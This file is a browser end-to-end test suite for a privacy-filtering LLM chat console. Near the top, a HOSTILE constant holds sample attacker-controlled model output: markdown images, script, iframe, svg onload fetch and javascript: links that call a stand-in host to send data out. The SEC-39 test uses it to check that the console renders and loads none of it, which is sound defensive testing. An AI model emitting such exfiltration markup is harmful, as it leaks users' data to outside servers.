import { createServer, type Server } from 'node:http';
import { readFile } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { TOTP, URI } from 'otpauth';
import { eventually, startSpeechServer, startUpstream, type SpeechServer, type Upstream } from '@app/testing';
import { inBrowser, launchBrowser, Visitor, type ScriptedAnswer } from '../support/browser';
import { IMAGE_ANSWER } from '../support/tenancy/belongings';
import { StartScene } from '../support/start';

const FIRST_SCREEN_BYTES = 250 * 1024;
const ELSEWHERE = 'https://elsewhere.example';

/** Output of a model under an attacker's control that makes a browser send data to another server. */
const HOSTILE = [
  `![picture](${ELSEWHERE}/a?q=NAME)`,
  `<img src="${ELSEWHERE}/b"><script src="${ELSEWHERE}/c"></script><iframe src="${ELSEWHERE}/d"></iframe>`,
  `<style>@import url(${ELSEWHERE}/e)</style><svg onload="fetch('${ELSEWHERE}/f')">`,
  `[harmless](javascript:fetch('${ELSEWHERE}/g')) [shown](${ELSEWHERE}/h)`,
  `[ref]: ${ELSEWHERE}/i\n\n![x][ref]`,
].join('\n\n');

/** Single sign-on settings. The service contacts the provider only after a user presses the button. */
const PROVIDER = {
  OIDC_ISSUER: 'https://login.company.example',
  OIDC_CLIENT_ID: 'console',
  OIDC_ORGANIZATION_CLAIM: 'organization',
};
/** Returns a failure as the service answers with it. */
const failed = (code: string, headers: Record<string, string>): ScriptedAnswer => ({
  status: 502,
  headers: { 'X-Error-Code': code, ...headers },
  body: { success: false, code, message: 'The language model failed; try again later', response_code: 502 },
});
const BROKEN_OFF = {
  success: false,
  code: 'provider_broke_off',
  prompt_sent: true,
  message: 'The language model failed; try again later',
  response_code: 502,
};

const STOPPED_CHAT = '019aa5c1-7c1e-7b0e-9a44-0c6f4a6b1f0d';
const STOPPED_HISTORY = {
  success: true,
  message: 'Chat history',
  response_code: 200,
  data: {
    anonymized_values: {},
    prompts: [
      {
        responseType: 'text',
        originalPrompt: 'Tell me more',
        anonymizedPrompt: 'Tell me more',
        response: 'Half an answer, as it is stored',
        createdAt: '2026-01-15T09:30:00.000Z',
        replacements: [],
        stopped: true,
      },
    ],
  },
  next_cursor: null,
};

const CALL = {
  at: '2026-01-15T09:30:00.000Z',
  actor: { kind: 'user', user_id: null },
  action: 'model.call',
  outcome: 'done',
  subject: null,
  model: 'demo-echo',
  address_hash: null,
  seal: null,
};
const UNPROTECTED_CALLS = {
  success: true,
  message: 'Audit trail',
  data: [
    { ...CALL, id: '1', reason: null, counts: { unprotected: 1, left_in_clear: 2 } },
    { ...CALL, id: '2', reason: 'failed', counts: { Names: 1 } },
  ],
  next_cursor: null,
};

/** Length of the recording, long enough for a transcription. */
const SPOKEN_MS = 1_500;

/** Runs in the page. */
const linksOf = (links: unknown): { href: string; rel: string }[] =>
  (links as { href: string; rel: string }[]).map(({ href, rel }) => ({ href, rel }));

inBrowser('the console, as npm start serves it', () => {
  let scene: StartScene;
  let speech: SpeechServer;
  /** Serves images. */
  let upstream: Upstream;
  let browser: Browser;
  let visitor: Visitor;
  let page: Page;
  let login: { userName: string; password: string };
  let receiver: Server;
  let answer = 500;
  let received = 0;
  let origin: string;

  beforeAll(async () => {
    [scene, speech, upstream, browser] = await Promise.all([
      StartScene.make(),
      startSpeechServer(),
      startUpstream(),
      launchBrowser(),
    ]);
    upstream.intercept = (_, response) => Boolean(response.writeHead(200).end(IMAGE_ANSWER));
    receiver = createServer((_request, response) => {
      received++;
      response.writeHead(answer).end();
    });
    await new Promise<void>((listening) => receiver.listen(0, '127.0.0.1', listening));
    origin = `http://localhost:${scene.port}`;
    await scene
      .start({
        RATE_LIMITS: 'off',
        TRANSCRIPTION_BASE_URL: speech.baseUrl,
        IMAGE_BASE_URL: upstream.baseUrl,
        ...PROVIDER,
        // One detection thread halves the start time.
        DETECTION_THREADS: '1',
        NODE_OPTIONS: '',
      })
      .ready(scene.port);
    login = JSON.parse(await readFile(join(scene.dataDir, 'demo-credentials.json'), 'utf8')) as typeof login;
    visitor = await Visitor.at(browser, origin);
    page = visitor.page;
  });
  afterAll(async () => {
    await visitor?.leave();
    await browser?.close();
    receiver?.close();
    receiver?.closeAllConnections();
    await Promise.all([speech?.stop(), upstream?.stop()]);
    await scene?.stop();
  });
  afterEach(() => {
    // Checks after each test: no request left the origin, no policy was violated, no error was thrown.
    expect(visitor.wrong).toEqual([]);
  });

  const textOf = async (selector: string): Promise<string> =>
    (await page.locator(selector).allTextContents()).join('\n');

  const send = async (prompt: string): Promise<void> => {
    const turns = await page.locator('article.turn').count();
    await page.locator('.composer textarea').fill(prompt);
    await page.locator('.composer button[type=submit]').click();
    await page.locator('article.turn:not([aria-busy])').nth(turns).locator('.answer').waitFor();
  };

  it('logs the demo user in, and shows for a first chat what was hidden and restored [PRIV-45]', async () => {
    const bytes = await visitor.transferred(async () => {
      await visitor.open('/');
      const signOn = page.getByRole('link', { name: 'Log in with single sign-on' });
      expect(await signOn.getAttribute('href')).toBe('/idm/v1/oidc/login');
      await visitor.logIn(login);
    });
    expect(new URL(page.url()).pathname).toBe('/chat');
    expect(bytes).toBeLessThan(FIRST_SCREEN_BYTES);
    const preview = page.locator('.findings .chip-text', { hasText: 'Hans Müller' });
    await page.getByText('Set LLM_BASE_URL').waitFor();
    await page.locator('.composer textarea').fill('Write to Hans Müller about Berlin.');
    await preview.waitFor();
    await send('Write to Hans Müller, phone +49 30 901820.');
    expect(await textOf('.answer')).toContain('Write to Hans Müller, phone +49 30 901820.');
    expect(await visitor.focus()).toBe('Your message');
    await page.getByRole('region', { name: 'Demonstration' }).waitFor();
    expect(await textOf('article')).not.toContain('This is demo-echo');
    await page.locator('.sent').waitFor();
    expect(await textOf('.sent')).not.toMatch(/Müller|901820/);
    const mark = page.locator('.sent mark').first();
    await mark.focus();
    expect(await textOf('.mark-note')).toContain('Hans Müller');
    expect(await visitor.faults()).toEqual([]);
    await page.keyboard.press('Escape');
    expect(page.url()).toMatch(/\/chat\/[0-9a-f-]{36}$/);
  });

  it('opens a conversation by its address, renames it, finds it, and deletes it after a confirmation', async () => {
    await page.reload();
    await page.locator('.answer', { hasText: 'Hans Müller' }).waitFor();
    const menu = page.getByRole('button', { name: /^Actions for Write to/ });
    await menu.click();
    await page.getByRole('menuitem', { name: 'Rename' }).click();
    await page.getByRole('dialog').getByLabel('Name').fill('Letter to a customer');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('link', { name: 'Letter to a customer' }).waitFor();
    await page.getByRole('searchbox').fill('nowhere');
    await page.getByText('Nothing found.').waitFor();
    await page.getByRole('searchbox').fill('customer');
    await page.getByRole('button', { name: 'Actions for Letter to a customer' }).click();
    await page.getByRole('menuitem', { name: 'Delete' }).click();
    expect(await textOf('dialog p')).toContain('Letter to a customer');
    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
    await page.getByText('Nothing found.').waitFor();
    expect(new URL(page.url()).pathname).toBe('/chat');
    await page.getByRole('searchbox').fill('');
  });

  it('leaves a false match unchanged and hides a missed word, for one chat', async () => {
    const prompt = 'Ask Hans Müller about the wombat.';
    const input = page.locator('.composer textarea');
    await input.fill(prompt);
    await page.getByRole('button', { name: 'Leave “Hans Müller” unchanged' }).click();
    await input.press('End');
    await input.press('ArrowLeft');
    for (const _ of 'wombat') await input.press('Shift+ArrowLeft');
    await page.getByRole('button', { name: 'Hide “wombat”' }).click();
    await page.locator('.chip-text', { hasText: 'wombat' }).waitFor();
    await page.locator('.composer button[type=submit]').click();
    await page.locator('.sent').waitFor();
    const sent = await textOf('.sent .pre');
    expect(sent).toContain('Hans Müller');
    expect(sent).not.toContain('wombat');
  });

  it('sends a document with a prompt and says so', async () => {
    await page.getByRole('link', { name: 'New conversation' }).click();
    const content = Buffer.from('The contract with Petra Sommer ends in June.');
    await page
      .locator('.composer input[type=file]')
      .setInputFiles({ name: 'contract.txt', mimeType: 'text/plain', buffer: content });
    await page.getByText('1 value in this document will be hidden').waitFor();
    await page.getByRole('button', { name: 'Show values' }).click();
    await page.locator('.found-values .chip', { hasText: 'Petra Sommer' }).waitFor();
    expect(await textOf('.document-findings mark')).toBe('Petra Sommer');
    expect(await textOf('.document-findings .pre')).toBe(content.toString());
    expect(await visitor.faults()).toEqual([]);
    await page.getByRole('button', { name: 'Close' }).click();
    await send('When does the contract end?');
    await page.locator('.prompt', { hasText: 'with a document' }).waitFor();
    expect(await textOf('.sent')).toContain('Also sent: 1 passage of documents');
  });

  it('keeps a draft while the user visits other screens, reloads the page or logs in again', async () => {
    const input = page.locator('.composer textarea');
    await page.getByRole('link', { name: 'New conversation' }).click();
    await input.fill('A draft about Petra Sommer');
    await page.locator('.composer input[type=file]').setInputFiles({
      name: 'notes.txt',
      mimeType: 'text/plain',
      buffer: Buffer.from('Petra Sommer lives in Kiel.'),
    });
    await page.getByText('attached').waitFor();
    await visitor.follow('/anonymize');
    await visitor.follow('/chat');
    expect(await input.inputValue()).toBe('A draft about Petra Sommer');
    await page.reload();
    await page.getByText('notes.txt').waitFor();
    expect(await input.inputValue()).toBe('A draft about Petra Sommer');
    // The preview would notice the end of the session before the click.
    await page.locator('.findings .chip').first().waitFor();
    await visitor.settled();
    await visitor.expireSession();
    await page.locator('.composer button[type=submit]').click();
    await page.getByRole('dialog').getByText('Your session has expired').waitFor();
    expect(await visitor.faults()).toEqual([]);
    await visitor.logIn(login);
    await page.locator('.answer', { hasText: 'A draft about Petra Sommer' }).waitFor();
    await eventually(() => expect(page.url()).toMatch(/\/chat\/[0-9a-f-]{36}$/));
    expect(await visitor.focus()).toBe('Your message');
  });

  it('shows when protection is off, at every width, and asks before turning it off for one conversation', async () => {
    await page.getByRole('link', { name: 'New conversation' }).click();
    await page.locator('.composer textarea').fill('Write to Hans Müller.');
    await page.getByRole('button', { name: 'Protected', exact: true }).click();
    await page.getByRole('button', { name: 'Turn protection off' }).click();
    await page.getByRole('dialog').getByText('for this conversation?').waitFor();
    await page.getByRole('dialog').getByRole('button', { name: 'Turn protection off' }).click();
    await page.locator('.clear-bar', { hasText: 'Not hidden: Hans Müller' }).waitFor();
    expect(await visitor.focus()).not.toBe('BODY');
    expect(await page.locator('.behind.clear').textContent()).toBe('Hans Müller');
    for (const width of [360, 768]) {
      await page.setViewportSize({ width, height: 740 });
      expect(await page.getByRole('button', { name: 'Not protected' }).innerText()).toBe('Not protected');
      expect(await visitor.faults()).toEqual([]);
    }
    await page.setViewportSize({ width: 1280, height: 720 });
    await page.reload();
    await page.locator('.clear-bar').waitFor();
    await visitor.scriptAnswers({ status: 503, body: {} });
    await page.locator('.composer button[type=submit]').click();
    await page.getByText('The provider may have received your message as you wrote it.').waitFor();
    expect((await visitor.scriptedPrompts())[0]?.body).toMatchObject({ choices: [], anonymized: false });
    await page.getByRole('button', { name: 'Turn protection on' }).click();
    await page.getByRole('button', { name: 'Protected', exact: true }).waitFor();
  });

  it('highlights values that the chosen kinds do not hide', async () => {
    await page.locator('.composer textarea').fill('Write to Hans Müller, hans.mueller@firma.de.');
    await page.getByRole('button', { name: 'Protected', exact: true }).click();
    await page.getByRole('checkbox', { name: 'E-mail address' }).click();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Partly protected' }).waitFor();
    await page.locator('.clear-bar', { hasText: 'Not hidden: hans.mueller@firma.de' }).waitFor();
    expect(await page.locator('.behind.clear').textContent()).toBe('hans.mueller@firma.de');
    await page.locator('.findings .chip-text', { hasText: 'Hans Müller' }).waitFor();
  });

  it('leaves no data for the next user of the browser, who starts protected', async () => {
    const stored = () => page.evaluate('JSON.stringify({ ...localStorage, ...sessionStorage })');
    expect(await stored()).toContain('Hans Müller');
    await visitor.logOut(login.userName);
    expect(await stored()).not.toMatch(/Hans Müller|Emails|:work:|:wishes:/);
    await visitor.logIn(login);
    await page.getByRole('button', { name: 'Protected', exact: true }).waitFor();
    expect(await page.locator('.composer textarea').inputValue()).toBe('');
    expect(await visitor.focus()).toBe('Your message');
  });

  it('offers no way to turn protection off if the policy forbids it', async () => {
    await page.route('**/ai/v1/kinds', async (route) => {
      const answer = await route.fetch();
      await route.fulfill({ json: { ...((await answer.json()) as object), allow_unprotected: false } });
    });
    await page.reload();
    await page.getByRole('button', { name: 'Protected', exact: true }).click();
    await page.getByRole('checkbox', { name: 'E-mail address' }).waitFor();
    expect(await page.getByRole('button', { name: 'Turn protection off' }).count()).toBe(0);
    await page.keyboard.press('Escape');
    await page.unroute('**/ai/v1/kinds');
    await page.reload();
  });

  it('explains provider failures in German only, and sends again with one click', async () => {
    const german = await Visitor.at(browser, origin, { locale: 'de-DE' });
    const sentence = 'The language model failed; try again later';
    await german.open('/chat');
    await german.logIn(login);
    await german.scriptAnswers(
      failed('provider_timeout', { 'X-Prompt-Sent': 'true' }),
      failed('provider_unreachable', { 'X-Prompt-Sent': 'false' }),
      failed('provider_rate_limited', { 'X-Prompt-Sent': 'true', 'Retry-After': '600' }),
      {
        events: [
          ['start', { session_id: 'none' }],
          ['delta', { text: 'Sehr' }],
          ['error', BROKEN_OFF],
        ],
      },
    );
    const said = [
      /nicht rechtzeitig geantwortet.*hat Ihre Nachricht erhalten.*verborgen/s,
      /nicht erreichbar.*nichts gesendet/s,
      /zu viele Anfragen.*Noch einmal in \d+ Sekunden/s,
      /Antwort abgebrochen.*hat Ihre Nachricht erhalten/s,
    ];
    for (const [index, words] of said.entries()) {
      await german.page.locator('.composer textarea').fill(`Nachricht ${index}`);
      await german.page.locator('.composer button[type=submit]').click();
      const notice = german.page.getByRole('alert').nth(index);
      expect(await notice.textContent()).toMatch(words);
      expect(await german.focus()).toBe('Ihre Nachricht');
    }
    expect(await german.page.locator('body').innerText()).not.toContain(sentence);
    expect(await german.faults()).toEqual([]);
    await german.page.getByText('Einzelheiten für Administratoren').first().click();
    await german.page.getByText(sentence).waitFor();
    // All four failures are still shown, and the first prompt can be sent again.
    await german.page.getByRole('button', { name: 'Noch einmal', exact: true }).first().click();
    await german.page.locator('.answer', { hasText: 'Nachricht 0' }).waitFor();
    expect(await german.focus()).toBe('Ihre Nachricht');
    expect(await german.page.getByRole('alert').count()).toBe(3);
    expect(german.wrong).toEqual([]);
    await german.leave();
  });

  it('returns a prompt to the input if the user stops before the answer begins, and keeps a partial answer otherwise', async () => {
    const input = page.locator('.composer textarea');
    const stop = page.getByRole('button', { name: 'Stop' });
    await page.getByRole('link', { name: 'New conversation' }).click();
    await visitor.scriptAnswers(
      { hangs: true },
      {
        headers: { 'X-Protection': 'some' },
        events: [
          ['start', { session_id: STOPPED_CHAT }],
          ['delta', { text: 'Half an answer' }],
          ['meta', { finish_reason: 'length' }],
        ],
        hangs: true,
      },
    );
    await input.fill('Tell me more');
    await input.press('Enter');
    await stop.click();
    await eventually(async () => expect(await input.inputValue()).toBe('Tell me more'));
    expect(await visitor.focus()).toBe('Your message');
    await page.route(`**/ai/v1/history/${STOPPED_CHAT}*`, (route) =>
      route.fulfill({ json: STOPPED_HISTORY }),
    );
    await page.locator('.composer select').selectOption({ index: 0 });
    await input.press('Enter');
    await page.getByText('Sent partly protected').waitFor();
    await page.getByText('The answer was truncated').waitFor();
    await stop.click();
    expect(await visitor.focus()).toBe('Your message');
    await page.getByText('You stopped this answer.').waitFor();
    await page.locator('.answer', { hasText: 'Half an answer, as it is stored' }).waitFor();
    expect(new URL(page.url()).pathname).toBe(`/chat/${STOPPED_CHAT}`);
    expect((await visitor.scriptedPrompts())[1]?.headers['x-on-disconnect']).toBe('keep');
    await page.unroute(`**/ai/v1/history/${STOPPED_CHAT}*`);
  });

  it('continues an answer that was cut off, and shows both parts as one text', async () => {
    const turn = {
      ...STOPPED_HISTORY.data.prompts[0]!,
      stopped: undefined,
      replacedResponse: 'Dear [NA',
      model: 'm',
    };
    const cut = { ...turn, finishReason: 'length' };
    const next = { ...turn, createdAt: '2026-01-15T09:31:00.000Z', finishReason: 'stop' };
    const prompts: object[] = [cut];
    const history = `**/ai/v1/history/${STOPPED_CHAT}*`;
    const path = `**/ai/v1/chat/${STOPPED_CHAT}/continue`;
    const data = { ...STOPPED_HISTORY.data, prompts };
    await page.route(history, (route) => {
      const isNewest = new URL(route.request().url()).searchParams.get('limit') === '1';
      const shown = { ...data, prompts: isNewest ? prompts.slice(-1) : prompts };
      return route.fulfill({ json: { ...STOPPED_HISTORY, data: shown } });
    });
    let asked: unknown;
    await page.route(path, (route) => {
      asked = route.request().postDataJSON();
      prompts.push({ ...next, replacedResponse: 'Hans Müller, welcome.', continuesAt: 5 });
      const events = [
        ['start', { session_id: STOPPED_CHAT, continues_at: 5 }],
        ['delta', { text: 'Hans Müller, welcome.' }],
        ['meta', { finish_reason: 'stop', protection: 'all' }],
        ['result', { session_id: STOPPED_CHAT }],
      ];
      const body = events.map(([event, of]) => `event: ${event as string}\ndata: ${JSON.stringify(of)}\n\n`);
      return route.fulfill({ contentType: 'text/event-stream', body: body.join('') });
    });
    await page.goto(`${origin}/chat/${STOPPED_CHAT}`);
    await page.getByText('The answer was truncated').waitFor();
    await page.getByRole('button', { name: 'Continue the answer' }).click();
    await page.getByText('Continuation of the answer above').first().waitFor();
    await eventually(async () =>
      expect(await page.locator('.answer').allInnerTexts()).toEqual(['Dear', 'Hans Müller, welcome.']),
    );
    expect(asked).toEqual({ model: 'm' });
    expect(await page.getByText('The answer was truncated').count()).toBe(0);
    expect(await visitor.focus()).toBe('Your message');
    expect(await visitor.faults()).toEqual([]);
    await page.unroute(history);
    await page.unroute(path);
  });

  it('creates an image from a description without its names, and stores it in this service', async () => {
    await page.getByRole('link', { name: 'New conversation' }).click();
    await page.getByRole('button', { name: 'Create an image' }).click();
    await page.locator('.composer textarea').fill('Hans Müller on a red bicycle');
    await page.locator('.composer button[type=submit]').click();
    const image = page.getByRole('img', { name: 'Image: Hans Müller on a red bicycle' });
    await image.waitFor();
    await eventually(async () =>
      expect(await image.evaluate((shown: unknown) => (shown as { naturalWidth: number }).naturalWidth)).toBe(
        1,
      ),
    );
    expect(new URL((await image.getAttribute('src'))!).origin).toBe(origin);
    expect(await textOf('.sent .pre')).toContain('red bicycle');
    expect(JSON.stringify(upstream.requests) + (await textOf('.sent .pre'))).not.toContain('Müller');
  });

  it('turns speech into text of a message', async () => {
    await page.getByRole('link', { name: 'New conversation' }).click();
    await page.getByRole('button', { name: 'Speak' }).click();
    await page.getByRole('button', { name: 'End recording' }).waitFor();
    await page.waitForTimeout(SPOKEN_MS);
    await page.getByRole('button', { name: 'End recording' }).click();
    await eventually(async () =>
      expect(await page.locator('.composer textarea').inputValue()).toBe(
        'He was not an ill-disposed young man.',
      ),
    );
    expect(speech.requests.at(-1)!.file.length).toBeGreaterThan(16_000 * 2);
  });

  it('loads nothing that an answer references, and shows the targets of its links [SEC-39]', async () => {
    await page.getByRole('link', { name: 'New conversation' }).click();
    await send(HOSTILE);
    const answer = page.locator('.answer');
    expect(await answer.locator('img, script, iframe, style, svg, [src], [style]').count()).toBe(0);
    const links = await answer.locator('a').evaluateAll(linksOf);
    expect(links).toEqual([{ href: `${ELSEWHERE}/h`, rel: expect.stringContaining('noopener') as string }]);
    expect(await answer.textContent()).toContain(`${ELSEWHERE}/h`);
  });

  it('removes personal data from a text', async () => {
    await visitor.follow('/anonymize');
    await page.getByLabel('Text', { exact: true }).fill('Anna Schmidt, anna.schmidt@firma.de');
    await page.getByRole('button', { name: 'Anonymize' }).click();
    await page.locator('.marked mark').first().waitFor();
    expect(await textOf('.marked')).toBe('[NAME_1], [EMAIL_1]');
    expect(await visitor.faults()).toEqual([]);
  });

  it('applies a new policy: a prompt with blocked values cannot be sent', async () => {
    await visitor.follow('/privacy');
    await page.getByLabel('E-mail address, External models').selectOption('block');
    await page.getByText('This text would be refused.').waitFor();
    for (const leave of [() => page.locator('.nav a[href="/chat"]').click(), () => page.goBack()]) {
      await leave();
      await page.getByRole('dialog').getByText('Leave without saving?').waitFor();
      await page.getByRole('button', { name: 'Cancel' }).click();
    }
    expect(new URL(page.url()).pathname).toBe('/privacy');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByText('Version 1').waitFor();
    expect(await visitor.faults()).toEqual([]);
    await visitor.follow('/chat');
    let tries = 0;
    await eventually(async () => {
      // The page does not ask again for confirmations that it already got.
      await page.locator('.composer textarea').fill(`Write to ann${++tries}@firma.de`);
      await page.getByText('Your organization does not allow this to be sent').waitFor({ timeout: 2_000 });
    }, 30_000);
    expect(await page.locator('.composer button[type=submit]').isDisabled()).toBe(true);
    await visitor.follow('/privacy');
    await page.getByLabel('E-mail address, External models').selectOption('asked');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByText('Version 2').waitFor();
  });

  it('creates a key that works within its scopes until it is revoked', async () => {
    await visitor.follow('/keys');
    await page.getByRole('button', { name: 'New key' }).click();
    await page.getByLabel('Name').fill('Reports');
    await page.getByRole('button', { name: 'Create key' }).click();
    const key = (await page.getByTestId('made-key').textContent()) ?? '';
    const models = () => fetch(`${origin}/ai/v1/models`, { headers: { authorization: `Bearer ${key}` } });
    expect((await models()).status).toBe(200);
    await page.getByRole('button', { name: 'Done' }).click();
    await page.getByRole('button', { name: 'Revoke' }).click();
    expect(await textOf('dialog p')).toContain('Reports');
    await page.getByRole('dialog').getByRole('button', { name: 'Revoke' }).click();
    await page.locator('.badge', { hasText: 'revoked' }).waitFor();
    expect((await models()).status).toBe(401);
    expect(await visitor.faults()).toEqual([]);
  });

  it('sets a budget, shows in the chat what to do when it is used up, and removes it after a confirmation', async () => {
    await visitor.follow('/usage');
    await page.getByRole('tab', { name: 'Budgets' }).click();
    await page.getByRole('button', { name: 'New budget' }).click();
    await page.getByLabel('Limit').fill('10');
    expect(await visitor.faults()).toEqual([]);
    await page.getByRole('button', { name: 'Save' }).click();
    const row = page.getByRole('row', { name: /of 10 tokens/ });
    await row.waitFor();
    await visitor.follow('/chat');
    await page.locator('.composer textarea').fill('Good morning');
    await page.locator('.composer button[type=submit]').click();
    const refusal = page.getByRole('alert').filter({ hasText: 'Your remaining budget for this month' });
    expect(await refusal.textContent()).toMatch(/new month begins on \w+\s1,\s\d{4}.*administrator/);
    await refusal.getByRole('link').click();
    await page.getByText('of 10 tokens').waitFor();
    await visitor.follow('/usage');
    await visitor.settled();
    expect(await visitor.faults()).toEqual([]);
    await page.getByRole('tab', { name: 'Budgets' }).click();
    const name = (await row.locator('th').textContent()) ?? '';
    await page.getByRole('button', { name: 'Remove the budget of' }).click();
    expect(name).toContain(/“(.+)”/.exec(await textOf('dialog p'))?.[1]);
    await page.getByRole('dialog').getByRole('button', { name: 'Remove', exact: true }).click();
    await page.getByText('No budgets: usage is not limited.').waitFor();
  });

  it('shows a failed delivery and redelivers it', async () => {
    await submitJob();
    await visitor.follow('/jobs');
    const job = page.getByRole('row', { name: /^Anonymization/ });
    await job.getByRole('button', { name: 'Details' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('cell', { name: '500', exact: true }).waitFor();
    [answer, received] = [200, 0];
    await dialog.getByRole('button', { name: 'Deliver again' }).click();
    await eventually(() => expect(received).toBe(1));
    // The dialog grows with the result of the new attempt, so that a click can miss the button while it moves.
    await eventually(async () => {
      await dialog.getByRole('button', { name: 'Close' }).click({ timeout: 1_000 });
      await dialog.waitFor({ state: 'detached', timeout: 1_000 });
    });
    await eventually(async () => {
      await page.getByRole('button', { name: 'Refresh' }).click();
      await page.getByText('delivered', { exact: true }).waitFor({ timeout: 1_000 });
    });
    expect(await visitor.faults()).toEqual([]);
  });

  it("sends a test event to the organization's webhook and shows the result", async () => {
    await visitor.follow('/jobs');
    await page.getByRole('tab', { name: 'Webhook' }).click();
    answer = 200;
    const { port } = receiver.address() as AddressInfo;
    await page.getByLabel('Address').fill(`http://127.0.0.1:${port}/events`);
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('button', { name: 'Send a test' }).click();
    await page.locator('.badge', { hasText: 'delivered' }).waitFor();
    await page.getByRole('row', { name: /200/ }).waitFor();
    expect(await visitor.faults()).toEqual([]);
  });

  it('reports that the audit trail is intact', async () => {
    await visitor.follow('/audit');
    await page.getByRole('button', { name: 'Verify' }).click();
    await page.getByText('The audit trail is complete').waitFor();
    expect(await visitor.faults()).toEqual([]);
    await page.route('**/admin/v1/audit?*', (route) => route.fulfill({ json: UNPROTECTED_CALLS }));
    await page.reload();
    await page.getByText('Without protection').waitFor();
    await page.getByText('2 not hidden').waitFor();
    expect(await page.locator('.badge', { hasText: 'failed' }).getAttribute('class')).toBe('badge bad');
    expect(await visitor.faults()).toEqual([]);
    await page.unroute('**/admin/v1/audit?*');
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'CSV', exact: true }).click();
    expect((await download).suggestedFilename()).toBe('audit.csv');
    await page.getByRole('link', { name: 'Status' }).click();
    await page.getByRole('button', { name: 'Copy the hash' }).first().click();
    const hash = (await page.evaluate('navigator.clipboard.readText()')) as string;
    const answer = await (await asDemo()).get(`/admin/v1/audit/verify?hash=${hash}`);
    expect(answer).toMatchObject({ data: { known: true } });
    const facts = (await textOf('.facts')).replaceAll('\u00a0', ' ');
    expect(facts).toMatch(/Node\.js\d+\.\d+.*90 days/s);
    expect(facts).toContain('Data keys under older main keysnone');
    expect(await visitor.faults()).toEqual([]);
  });

  it('has a recording transcribed and shows the result as soon as it is ready', async () => {
    await visitor.follow('/transcribe');
    await page.locator('input[type=file]').setInputFiles('test/fixtures/speech/librivox-0870.wav');
    await page.getByRole('button', { name: 'Transcribe' }).click();
    await page.locator('.segments li', { hasText: 'He was not an ill-disposed young man.' }).waitFor();
    expect(await visitor.faults()).toEqual([]);
  });

  it('returns to the screen where the session ended', async () => {
    await visitor.follow('/people');
    await visitor.settled();
    expect(await visitor.faults()).toEqual([]);
    await visitor.expireSession();
    await page.getByRole('link', { name: 'Groups' }).click();
    await page.getByText('Your session has expired').waitFor();
    await visitor.logIn(login);
    expect(new URL(page.url()).pathname).toBe('/groups');
    await page.getByRole('heading', { name: 'Groups' }).waitFor();
    await visitor.settled();
    expect(await visitor.faults()).toEqual([]);
  });

  it('offers to reload if the code of a screen is gone after an upgrade, and keeps the draft', async () => {
    const code = '**/groups-screen-*.js';
    const input = page.locator('.composer textarea');
    await visitor.follow('/chat');
    await page.getByRole('link', { name: 'New conversation' }).click();
    await input.fill('A draft about Petra Sommer');
    await page.reload();
    await page.route(code, (route) => route.fulfill({ status: 404 }));
    await page.getByRole('link', { name: 'Groups' }).click();
    await page.getByRole('alert').getByText('This screen could not be loaded.').waitFor();
    expect(await visitor.faults()).toEqual([]);
    // React reports the error that the page shows.
    expect(visitor.wrong.splice(0).join()).toContain('PartNotLoaded');
    await page.unroute(code);
    await page.getByRole('button', { name: 'Reload' }).click();
    await page.getByRole('heading', { name: 'Groups' }).waitFor();
    await visitor.follow('/chat');
    expect(await input.inputValue()).toBe('A draft about Petra Sommer');
    await input.fill('');
  });

  it('opens the documents in a separate tab', async () => {
    await page.getByRole('button', { name: login.userName }).click();
    const [help] = await Promise.all([
      visitor.context.waitForEvent('page'),
      page.getByRole('menuitem', { name: 'Help' }).click(),
    ]);
    await help.getByRole('button', { name: 'Search' }).click();
    await help.getByPlaceholder('Search').fill('policy');
    await help.locator('.results .result').first().waitFor();
    await help.close();
    expect(await visitor.faults()).toEqual([]);
  });

  it('logs out in every tab', async () => {
    const other = await visitor.context.newPage();
    await other.goto(`${origin}/groups`);
    await other.getByRole('button', { name: login.userName }).click();
    await other.getByRole('menuitem', { name: 'Log out' }).click();
    await page.getByRole('heading', { name: 'Log in' }).waitFor();
    await other.close();
    await visitor.logIn(login);
  });

  it('logs a user in with a one-time password, makes them choose another, and shows only their own screens', async () => {
    await visitor.follow('/people');
    await page.getByRole('button', { name: 'Add a person' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel('E-mail address').fill('new@example.com');
    await dialog.getByRole('button', { name: 'Add a person' }).click();
    const oneTime = (await dialog.locator('.secret').textContent()) ?? '';
    const other = await Visitor.at(browser, origin);
    await other.open('/people');
    await other.page.getByLabel('E-mail address').fill('new@example.com');
    await other.page.getByLabel('Password', { exact: true }).fill(oneTime);
    await other.page.getByRole('button', { name: 'Log in' }).click();
    await other.page.getByLabel('New password').fill('a password of their own');
    await other.page.getByRole('button', { name: 'Log in' }).click();
    await other.page.getByRole('heading', { name: 'No such page' }).waitFor();
    expect(await other.page.getByRole('link', { name: 'Keys' }).count()).toBe(1);
    expect(await other.page.getByRole('link', { name: 'People' }).count()).toBe(0);
    await setUpSecondFactor(other, { userName: 'new@example.com', password: 'a password of their own' });
    expect(other.wrong).toEqual([]);
    await other.leave();
  });

  /** Sets up a second factor with the link that is also in the QR code, then logs out and in with it. */
  async function setUpSecondFactor(other: Visitor, { userName, password }: typeof login): Promise<void> {
    await other.open('/account');
    await other.page.getByRole('button', { name: 'Set up' }).click();
    await other.page.getByRole('img', { name: 'QR code' }).waitFor();
    expect(await other.faults()).toEqual([]);
    const link = other.page.getByRole('link', { name: 'Open in an app of this device' });
    const app = URI.parse((await link.getAttribute('href'))!) as TOTP;
    expect(await other.page.locator('.secret').textContent()).toBe(app.secret.base32);
    await other.page.getByLabel('Code', { exact: true }).fill(app.generate());
    await other.page.getByRole('button', { name: 'Confirm' }).click();
    await other.page.getByText('Keep these recovery codes safe').waitFor();
    await other.logOut(userName);
    await other.page.getByLabel('E-mail address').fill(userName);
    await other.page.getByLabel('Password', { exact: true }).fill(password);
    await other.page.getByRole('button', { name: 'Log in', exact: true }).click();
    // Each code is valid once, so this is the code of the next 30 seconds.
    await other.page
      .getByLabel('Code', { exact: true })
      .fill(app.generate({ timestamp: Date.now() + 30_000 }));
    await other.page.getByRole('button', { name: 'Log in', exact: true }).click();
    await other.page.locator('.shell').waitFor();
  }

